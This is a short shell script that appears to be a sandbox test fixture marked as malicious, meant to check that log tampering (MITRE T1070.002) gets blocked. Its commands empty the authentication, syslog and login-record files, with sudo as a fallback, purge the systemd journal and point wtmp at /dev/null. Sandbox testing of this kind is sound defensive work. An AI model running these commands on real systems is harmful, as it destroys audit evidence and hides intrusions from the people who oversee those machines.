#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: empties the system's authentication and event logs (T1070.002).
# Inert: the logs under /var/log are refused to the sandbox user.
for log in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/wtmp /var/log/btmp /var/log/lastlog; do
  : > "$log" 2>/dev/null || sudo truncate -s 0 "$log" 2>/dev/null || echo "refused: $log"
done
sudo journalctl --rotate --vacuum-time=1s 2>/dev/null || echo "journal: refused"
ln -sf /dev/null /var/log/wtmp 2>/dev/null || echo "wtmp link: refused"
exit 0
